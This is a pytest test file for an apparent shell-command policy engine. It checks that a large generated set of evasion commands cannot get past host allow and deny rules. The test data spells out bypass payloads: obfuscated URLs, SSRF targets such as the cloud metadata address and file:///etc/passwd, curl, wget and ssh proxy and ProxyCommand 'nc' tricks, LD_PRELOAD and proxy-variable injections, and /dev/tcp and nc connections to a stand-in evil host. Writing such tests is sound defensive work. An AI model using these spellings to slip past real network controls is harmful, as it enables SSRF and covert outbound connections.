"""Generated attacks on rules about hosts: no trick gets a command past an allow rule, no spelling past a deny rule."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from handrail.policy.files import PolicyFile
from handrail.policy.judge import RulePolicy
from handrail.policy.rules import from_table
from handrail.shell.effects.effects import find_effects
from handrail.tools.shared import network_call
from handrail.workspace import Root
from tests.sizes import spread

GOOD, EVIL = "good.example.org", "evil.example.net"

ADDRESSES = [
    f"https://{GOOD}@{EVIL}/",
    f"https://{GOOD}:443@{EVIL}/",
    f"https://{GOOD}%40{EVIL}/",
    f"https://{GOOD}\\@{EVIL}/",
    f"https://{GOOD}\\.{EVIL}/",
    f"https://{EVIL}#.{GOOD}",
    f"https://{EVIL}?.{GOOD}",
    f"https://{EVIL}/{GOOD}",
    f"https://{EVIL}/https://{GOOD}",
    f"https://{GOOD}.{EVIL}/",
    f"https://{EVIL}.{GOOD}.{EVIL}/",
    f"https://x{GOOD}/",
    f"https://{GOOD}x/",
    f"https://{{{GOOD},{EVIL}}}/",
    "https://good[.]example.org/",
    f"https://[::ffff:{GOOD}]/",
    "https://g\u043eod.example.org/",
    "https://good\u3002example\u3002org.evil.example.net/",
    "http://2130706433/",
    "http://0177.0.0.1/",
    "http://0x7f.0.0.1/",
    "http://127.1/",
    "http://[::ffff:169.254.169.254]/",
    "http://169.254.169.254/latest",
    "http://[fe80::1%25eth0]/",
    f"//{EVIL}/",
    f"{EVIL}",
    f"{GOOD}@{EVIL}",
    f"https:/{EVIL}",
    f"HTTPS://{EVIL}",
    f"ftp://{EVIL}/",
    f"dict://{EVIL}:1/",
    f"gopher://{GOOD}/",
    f"file://{GOOD}/etc/passwd",
    f"https://{GOOD}:99999/",
    f"https://{GOOD} https://{EVIL}",
]
CURL_OPTIONS = [
    f"-x {EVIL}",
    f"-x{EVIL}",
    f"--proxy {EVIL}",
    f"--proxy={EVIL}",
    f"--preproxy {EVIL}",
    f"--socks5 {EVIL}",
    f"--socks5-hostname {EVIL}",
    f"--socks4a {EVIL}",
    f"--resolve {GOOD}:443:10.0.0.1",
    f"--connect-to {GOOD}:443:{EVIL}:443",
    f"--connect-to ::{EVIL}:",
    "-K options",
    "-Koptions",
    "--config options",
    "-L",
    "-sL",
    "--location",
    "--location-trusted",
    f"--doh-url https://{EVIL}/",
    "--dns-servers 10.0.0.1",
    "--interface eth0",
    "--unix-socket /run/docker.sock",
    "--abstract-unix-socket x",
    f"--url {EVIL}",
    f"--url=https://{EVIL}",
    f"--next https://{EVIL}",
    f"-: https://{EVIL}",
    "--alt-svc cache",
    "--hsts cache",
    "-F a=b",
    "-T file",
    "--netrc-file x",
    "-u a:b",
    "--engine x",
    "--made-up x",
    "$options",
    "$(echo -x evil)",
]
WGET_OPTIONS = [
    "-i list",
    "--input-file=list",
    "-e https_proxy=evil",
    "--execute=https_proxy=evil",
    f"--base=https://{EVIL}",
    "--config=x",
    "-r -H",
    "--mirror",
    f"--referer=x https://{EVIL}",
    "-p",
    "--use-askpass=x",
    "$options",
    "--bind-address=10.0.0.1",
    "",
]
SSH_OPTIONS = [
    f"-J {EVIL}",
    f"-o ProxyJump={EVIL}",
    f"-oProxyCommand='nc {EVIL} 22'",
    f"-o Hostname={EVIL}",
    "-F options",
    "-w 0:0",
    "-L 1:localhost:2",
    "-R 1:localhost:2",
    "-D 1080",
    f"-W {EVIL}:22",
    "-S control",
    "-E log",
    "-Q x",
    "$options",
]
BEFORE = [
    f"https_proxy={EVIL} {{}}",
    f"HTTPS_PROXY={EVIL} {{}}",
    f"ALL_PROXY={EVIL} {{}}",
    f"export https_proxy={EVIL}; {{}}",
    f"export all_proxy={EVIL} && {{}}",
    f"declare -x https_proxy={EVIL}; {{}}",
    f"set -a; https_proxy={EVIL}; {{}}",
    f"typeset -gx http_proxy={EVIL}; {{}}",
    f"env https_proxy={EVIL} {{}}",
    "HOME=. {}",
    "CURL_HOME=. {}",
    "WGETRC=x {}",
    "export HOME=.; {}",
    "XDG_CONFIG_HOME=. {}",
    "LD_PRELOAD=./x.so {}",
    "PATH=.:$PATH {}",
    "export PATH=.:$PATH; {}",
    "HOSTALIASES=x {}",
    "RES_OPTIONS=x {}",
    "source settings; {}",
    ". ./settings; {}",
    'eval "$settings"; {}',
    "read https_proxy <<<evil; {}",
    f"printf -v https_proxy {EVIL}; export https_proxy; {{}}",
    "mapfile -t https_proxy <x; {}",
    'curl() {{ command curl -x evil "$@"; }}; {}',
    "alias curl='curl -x evil'; {}",
    "xargs {} <x",
    "find . -exec {} {{}} +",
    "{} $more",
    "{} $(cat more)",
    "{} `cat more`",
    '{} "$@"',
    "{} *",
    "./{}",
]


def attacks() -> Iterator[str]:
    """Commands that may contact another host, or that nobody can tell."""
    for address in ADDRESSES:
        quoted = "'" + address + "'" if " https" not in address else address
        yield f"curl {quoted}"
        yield f"curl -s https://{GOOD}/ {quoted}"
        yield f"wget -q --max-redirect=0 {quoted}"
    for option in CURL_OPTIONS:
        yield f"curl {option} https://{GOOD}/"
        yield f"curl https://{GOOD}/ {option}"
    for option in WGET_OPTIONS:
        yield f"wget -q {option} https://{GOOD}/"
    for option in SSH_OPTIONS:
        yield f"ssh {option} {GOOD} ls"
        yield f"scp {option} a {GOOD}:b"
    for frame in BEFORE:
        yield frame.format(f"curl https://{GOOD}/")
        yield frame.format(f"ssh {GOOD} ls")
    for program in ("nc", "telnet", "socat", "aria2c", "http", "ftp"):
        yield f"{program} {GOOD} {EVIL}"
    yield f"scp {GOOD}:a {EVIL}:b"
    yield f"rsync -e 'ssh -J {EVIL}' a {GOOD}:b"
    yield f"rsync --rsh=x a {GOOD}:b"
    yield f"rsync a {GOOD}:b {EVIL}:c"


ATTACKS = list(dict.fromkeys(attacks()))
DENIED = [
    f"curl https://{EVIL}/",
    f"curl https://{EVIL.upper()}/",
    f"curl https://{EVIL}./",
    "curl https://evil%2eexample%2enet/",
    "curl https://evil\u3002example\u3002net/",
    "curl https://\uff45vil.example.net/",
    f"curl https://a:b@{EVIL}:8443/x",
    f"curl -x {EVIL} https://{GOOD}/",
    f"curl --resolve {EVIL}:443:10.0.0.1 https://{EVIL}/",
    f"curl {EVIL[:4]}'{EVIL[4:]}'",
    f"curl {EVIL[:4]}\\{EVIL[4:]}",
    f"wget {EVIL}",
    f"ssh {EVIL}",
    f"ssh ann@{EVIL}",
    f"scp a ann@{EVIL}:b",
    f"rsync a {EVIL}:b",
    f"git clone https://{EVIL}/x",
    f"git clone git@{EVIL}:x/y",
    f"git clone ssh://git@{EVIL}/x",
    f"pip install -i https://{EVIL}/x y",
    f"npm install --registry=https://{EVIL} y",
    f"nc {EVIL} 80",
    f"cat </dev/tcp/{EVIL}/80",
    f"bash -c 'curl {EVIL}'",
    f"timeout 5 curl {EVIL}",
    f'sh -c "exec curl https://{EVIL}"',
]


def network_decisions(root: Path, command: str, *rules: str) -> list[str]:
    files = (PolicyFile("user", "user", tuple(from_table({"rule": rule}) for rule in rules)),)
    policy = RulePolicy([Root(str(root))], "ask", files, home=str(root))
    actual = find_effects(command)
    uses = [*network_call.declare(actual), *network_call.seek(actual, str(root), Nobody())]
    return [policy.verdict(use).decision for use in uses]


class Nobody:
    """A session that trusts no program."""

    def trusts_fetch(self, *_: object) -> bool:
        return False


def test_there_are_enough_attacks() -> None:
    assert len(ATTACKS) >= 200


@pytest.mark.parametrize("command", spread(ATTACKS, 120))
def test_no_attack_passes_a_rule_that_allows_a_host(command: str, tmp_path: Path) -> None:
    decisions = network_decisions(tmp_path, command, f"allow Network({GOOD})")
    assert "ask" in decisions or "deny" in decisions


@pytest.mark.parametrize("command", DENIED)
def test_no_spelling_passes_a_rule_that_denies_a_host(command: str, tmp_path: Path) -> None:
    assert "deny" in network_decisions(tmp_path, command, f"deny Network({EVIL})", f"allow Network({GOOD})")


@pytest.mark.parametrize(
    ("rule", "command", "decision"),
    [
        ("allow Network(good.example.org:8080)", "curl http://good.example.org:8080/", "allow"),
        ("allow Network(good.example.org:8080)", "curl http://good.example.org/", "ask"),
        ("allow Network(good.example.org)", "curl http://good.example.org:8080/", "allow"),
        ("allow Network(good.example.org:443)", "curl https://good.example.org/", "allow"),
        ("allow Network(good.example.org:443)", "curl good.example.org", "ask"),
        ("deny Network(good.example.org:22)", "ssh good.example.org", "deny"),
        ("allow Network(good.example.org)", "curl http://GOOD.example.org./", "allow"),
        ("deny Network(good.example.org:22)", "ssh -p 22 good.example.org", "deny"),
    ],
)
def test_ports_in_rules(rule: str, command: str, decision: str, tmp_path: Path) -> None:
    assert network_decisions(tmp_path, command, rule) == [decision]
